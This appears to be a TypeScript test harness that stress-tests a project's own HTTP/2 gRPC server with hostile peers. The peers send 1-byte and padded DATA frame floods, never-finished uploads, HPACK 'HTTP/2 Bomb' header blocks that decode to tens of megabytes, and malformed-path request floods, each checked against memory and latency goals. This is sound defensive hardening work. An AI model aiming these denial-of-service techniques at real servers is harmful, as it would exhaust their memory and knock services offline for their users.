// The hostile peers of issue 25 ("round two"), for scripts/stress-hostile.ts: message bytes sent so that a
// server holding a view per frame, or per padded frame's read buffer, or every half-sent message, grows
// without bound; and header blocks that decode to far more than they weigh ("HTTP/2 Bomb"). Each attack
// has a name, a target (issue 25's goals: ΔRSS < 200 MB, no honest call over 250 ms) and, where the
// attack applies to both engines, a variant for --engine grpc-js.
import { EchoMethod } from "../../src/api/echo.ts";
import {
  DEFAULT_WINDOW,
  encodeFrame,
  Flag,
  FrameType,
  MAX_WINDOW,
  Setting,
  windowUpdateFrame,
  writeFrameHeader,
} from "../../src/h2/frame.ts";
import { encodeInt } from "../../src/h2/hpack/encoder.ts";
import type { Attack, AttackOutcome } from "./attack.ts";
import { AttackPeer, echoRequestBytes, grpcMessage, requestBlock } from "./h2-attacker.ts";

const MIB = 1 << 20;
const CHUNK_BYTES = 64 * 1024;
const STALL_MS = 3000;
/** Issue 25's goals for every attack of the round. */
const GOALS = { rssMB: 200, maxMs: 250 } as const;

/** Per stream (odd ids from 1), the message it sends and where it is in it. */
interface Upload {
  readonly id: number;
  readonly bytes: Buffer;
  at: number;
}

/**
 * Writes the uploads' bytes round-robin, one frame of `payload` bytes per stream per turn, each padded
 * with `padding` bytes if asked, the last of each with END_STREAM unless `finish` is false, within the
 * server's windows (a stream without window waits its turn; none with any, and the attack waits). Frames
 * are made straight into ~64 KiB chunks: the attacker's cost per frame stays a few stores.
 */
async function roundRobin(
  peer: AttackPeer,
  uploads: Upload[],
  payload: number,
  padding: number,
  finish: boolean,
  deadline: number,
): Promise<number> {
  const frameBytes = 9 + (padding > 0 ? 1 + padding : 0) + payload;
  const chunk = Buffer.alloc(Math.max(frameBytes, Math.floor(CHUNK_BYTES / frameBytes) * frameBytes));
  let live = uploads.filter((u) => u.at < u.bytes.length);
  let frames = 0;
  while (live.length > 0 && !peer.refused && performance.now() < deadline) {
    let p = 0;
    let n = 0;
    let skipped = 0;
    for (let k = 0; p + frameBytes <= chunk.length && live.length > 0 && skipped < live.length; k++) {
      const u = live[k % live.length] as Upload;
      const take = Math.min(payload, u.bytes.length - u.at);
      const counted = take + (padding > 0 ? 1 + padding : 0);
      if (peer.windowFor(u.id) < counted) {
        skipped++;
        continue;
      }
      skipped = 0;
      peer.spend(u.id, counted);
      const last = u.at + take === u.bytes.length;
      const flags = (last && finish ? Flag.END_STREAM : 0) | (padding > 0 ? Flag.PADDED : 0);
      const length = take + (padding > 0 ? 1 + padding : 0);
      writeFrameHeader(chunk, p, length, FrameType.DATA, flags, u.id);
      let q = p + 9;
      if (padding > 0) chunk[q++] = padding;
      u.bytes.copy(chunk, q, u.at, u.at + take);
      if (padding > 0) chunk.fill(0, q + take, q + take + padding);
      p += 9 + length;
      u.at += take;
      n++;
      if (last) live = live.filter((x) => x !== u);
    }
    frames += n;
    if (n === 0) {
      // No stream has window: the server is holding back; wait for it (or give up when it never comes).
      const open = await peer.until(
        () => live.some((u) => peer.windowFor(u.id) >= frameBytes - 9),
        Math.min(deadline, performance.now() + STALL_MS),
      );
      if (!open) break;
      continue;
    }
    if (!(await peer.write(chunk.subarray(0, p), n))) break;
  }
  return frames;
}

/**
 * A peer that takes whatever the server answers: the largest windows, so Echo's responses never wait
 * (the attack is on what the server holds of requests, not of responses).
 */
async function openPeer(port: number): Promise<AttackPeer> {
  const peer = await AttackPeer.connect(port, [[Setting.INITIAL_WINDOW_SIZE, MAX_WINDOW]]);
  await peer.write(windowUpdateFrame(0, MAX_WINDOW - DEFAULT_WINDOW), 1);
  return peer;
}

function statusCounts(peer: AttackPeer): string {
  const counts = new Map<string, number>();
  for (const s of peer.statuses.values()) counts.set(s.status, (counts.get(s.status) ?? 0) + 1);
  return [...counts].map(([k, v]) => `${v}× grpc-status ${k}`).join(", ") || "no statuses";
}

function resetCounts(peer: AttackPeer): string {
  return [...peer.resets].map(([code, n]) => `${n} RST_STREAM ${code}`).join(", ");
}

const engines = [
  ["", []],
  ["@grpc-js", ["--engine", "grpc-js"]],
] as const;

/** CVE-2026-84304 class: messages in 1-byte DATA frames, every stream at once. */
function fragmentedData(suffix: string, serverArgs: readonly string[], streams: number, bytes: number): Attack {
  const name = `fragmented-data${bytes > MIB ? "-4m" : ""}${suffix}`;
  return {
    name,
    what: `${streams} streams × ${bytes / MIB} MiB Echo messages as 1-byte DATA frames, round-robin`,
    target: GOALS,
    serverArgs,
    async run(port, deadline) {
      const peer = await openPeer(port);
      const message = grpcMessage(echoRequestBytes(bytes - 1024));
      const uploads: Upload[] = [];
      for (let i = 0; i < streams; i++) {
        uploads.push({ id: 2 * i + 1, bytes: message, at: 0 });
        await peer.headers(2 * i + 1, requestBlock());
      }
      const frames = await roundRobin(peer, uploads, 1, 0, true, deadline);
      await peer.until(() => peer.statuses.size >= streams, deadline);
      peer.close();
      return { peer, note: `${frames.toLocaleString("en")} DATA frames; ${statusCounts(peer)}` };
    },
  };
}

/** The same with each 1-byte frame padded to 256 bytes, over two connections. */
function paddedFragments(suffix: string, serverArgs: readonly string[]): Attack {
  const CONNECTIONS = 2;
  const STREAMS = 250;
  const BYTES = 8 * 1024;
  return {
    name: `padded-data${suffix}`,
    what: `${CONNECTIONS} connections × ${STREAMS} streams × ${BYTES / 1024} KiB, 1-byte DATA frames padded to 256 bytes`,
    target: GOALS,
    serverArgs,
    async run(port, deadline) {
      const peers = await Promise.all(Array.from({ length: CONNECTIONS }, () => openPeer(port)));
      const message = grpcMessage(echoRequestBytes(BYTES - 16));
      const frames = await Promise.all(
        peers.map(async (peer) => {
          const uploads: Upload[] = [];
          for (let i = 0; i < STREAMS; i++) {
            uploads.push({ id: 2 * i + 1, bytes: message, at: 0 });
            await peer.headers(2 * i + 1, requestBlock());
          }
          const n = await roundRobin(peer, uploads, 1, 255, true, deadline);
          await peer.until(() => peer.statuses.size >= STREAMS, deadline);
          return n;
        }),
      );
      for (const p of peers.slice(1)) p.close();
      const peer = peers[0] as AttackPeer;
      peer.close();
      const total = frames.reduce((a, b) => a + b, 0);
      return {
        peer,
        note: `${total.toLocaleString("en")} padded DATA frames on ${CONNECTIONS} connections; first: ${statusCounts(peer)}`,
      };
    },
  };
}

/** Many half-sent messages: 1000 streams × 1 MB of a declared 4 MiB message, never finished. */
function halfSent(suffix: string, serverArgs: readonly string[]): Attack {
  const STREAMS = 1000;
  const SENT = 1_000_000;
  return {
    name: `half-sent${suffix}`,
    what: `${STREAMS} streams × ${SENT / 1e6} MB of a declared 4 MiB message, never finished (within the server's windows)`,
    target: GOALS,
    serverArgs,
    async run(port, deadline) {
      const peer = await AttackPeer.connect(port);
      const part = Buffer.alloc(SENT, 0x61);
      part[0] = 0;
      part.writeUInt32BE(4 * MIB - 16, 1);
      let opened = 0;
      let stalled = 0;
      for (let i = 0; i < STREAMS && !peer.refused && performance.now() < deadline; i++) {
        const id = 2 * i + 1;
        await peer.headers(id, requestBlock());
        opened++;
        const out = await peer.data(id, part, false, deadline, STALL_MS);
        if (out === "stalled" && ++stalled >= 3) break;
      }
      if (!peer.closed) await peer.sync(deadline);
      await Bun.sleep(1000);
      peer.close();
      return {
        peer,
        note: `${opened} streams opened, ${(peer.dataBytes / 1e6).toFixed(0)} MB uploaded; ${resetCounts(peer)}; ${statusCounts(peer)}`,
      };
    },
  };
}

/** An HPACK literal with incremental indexing and a new name: it enters the dynamic table. */
function indexedLiteral(name: string, value: string): Buffer {
  const out: number[] = [0x40];
  for (const s of [name, value]) {
    encodeInt(out, s.length, 7, 0);
    for (const b of Buffer.from(s, "latin1")) out.push(b);
  }
  return Buffer.from(out);
}

/** "HTTP/2 Bomb" (CVE-2026-49975 class), reflected :path: 4-byte blocks naming a 3,900-byte :path, peers that never read. */
function reflectedPath(suffix: string, serverArgs: readonly string[]): Attack {
  const CONNECTIONS = 4;
  const REQUESTS = 200_000;
  return {
    name: `bomb-reflected-path${suffix}`,
    what: `${CONNECTIONS} connections that never read, each ${REQUESTS / 1000}k 4-byte HEADERS naming a 3,900-byte :path in the HPACK table`,
    target: GOALS,
    serverArgs,
    async run(port, deadline) {
      const peers = await Promise.all(Array.from({ length: CONNECTIONS }, () => AttackPeer.connect(port)));
      const first = Buffer.concat([
        Buffer.from([0x83, 0x86]),
        indexedLiteral(":path", `/${"p".repeat(3899)}`),
        indexedLiteral("content-type", "application/grpc"),
      ]);
      const tiny = Buffer.from([0x83, 0x86, 0x80 | 63, 0x80 | 62]);
      const sent = await Promise.all(
        peers.map(async (peer) => {
          await peer.write(encodeFrame(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, 1, first), 1);
          peer.pause();
          return peer.flood(REQUESTS, deadline, (i) =>
            encodeFrame(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, 3 + 2 * i, tiny),
          );
        }),
      );
      // Then read what came, to see the server's answer.
      for (const p of peers) p.resume();
      await Promise.all(
        peers.map((p) => (p.refused ? Promise.resolve(false) : p.sync(Math.min(deadline, performance.now() + 5000)))),
      );
      for (const p of peers.slice(1)) p.close();
      const peer = peers[0] as AttackPeer;
      peer.close();
      const answer = [...peer.statuses.values()][0];
      return {
        peer,
        note: `${sent.reduce((a, b) => a + b, 0).toLocaleString("en")} requests written; first answer ${answer?.status} (${answer?.message.length ?? 0} chars of grpc-message)`,
      };
    },
  };
}

/** "HTTP/2 Bomb", header-list references: 16 KB blocks decoding to ~64 MB each, zero window. */
function referenceBomb(suffix: string, serverArgs: readonly string[]): Attack {
  const BLOCKS = 2000;
  return {
    name: `bomb-header-refs${suffix}`,
    what: `window 0; ${BLOCKS} HEADERS of 16 KB, each naming a 4 KB table entry 16 thousand times (~64 MB decoded)`,
    target: { ...GOALS, goaway: true },
    serverArgs,
    async run(port, deadline) {
      const peer = await AttackPeer.connect(port, [[Setting.INITIAL_WINDOW_SIZE, 0]]);
      const request = requestBlock(EchoMethod.path);
      await peer.write(
        encodeFrame(
          FrameType.HEADERS,
          Flag.END_HEADERS | Flag.END_STREAM,
          1,
          Buffer.concat([request, indexedLiteral("x-bomb", "b".repeat(4000))]),
        ),
        1,
      );
      const bomb = Buffer.concat([request, Buffer.alloc(16 * 1024 - request.length - 16, 0x80 | 62)]);
      const sent = await peer.flood(BLOCKS, deadline, (i) =>
        encodeFrame(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, 3 + 2 * i, bomb),
      );
      if (!peer.refused) await peer.sync(deadline);
      peer.close();
      return { peer, note: `${sent} blocks written; ${statusCounts(peer)}; ${resetCounts(peer)}` };
    },
  };
}

/** :path with a tab: RST PROTOCOL_ERROR each, until the glitch budget runs out. */
function badPath(): Attack {
  const COUNT = 100_000;
  return {
    name: "bad-path",
    what: `${COUNT / 1000}k requests whose :path holds a tab (RFC 9113 §8.2.1)`,
    target: { ...GOALS, goaway: true },
    async run(port, deadline): Promise<AttackOutcome> {
      const peer = await AttackPeer.connect(port);
      const block = requestBlock("/grpcperf.v1.Echo/\tEcho");
      const sent = await peer.flood(COUNT, deadline, (i) =>
        encodeFrame(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, 1 + 2 * i, block),
      );
      if (!peer.refused) await peer.sync(deadline);
      peer.close();
      return { peer, note: `${sent.toLocaleString("en")} written; ${resetCounts(peer)}; ${statusCounts(peer)}` };
    },
  };
}

export function roundTwoAttacks(): Attack[] {
  const out: Attack[] = [];
  for (const [suffix, args] of engines) out.push(fragmentedData(suffix, args, 8, MIB));
  out.push(fragmentedData("", [], 4, 4 * MIB));
  for (const [suffix, args] of engines) out.push(paddedFragments(suffix, args));
  for (const [suffix, args] of engines) out.push(halfSent(suffix, args));
  for (const [suffix, args] of engines) out.push(reflectedPath(suffix, args));
  for (const [suffix, args] of engines) out.push(referenceBomb(suffix, args));
  out.push(badPath());
  return out;
}
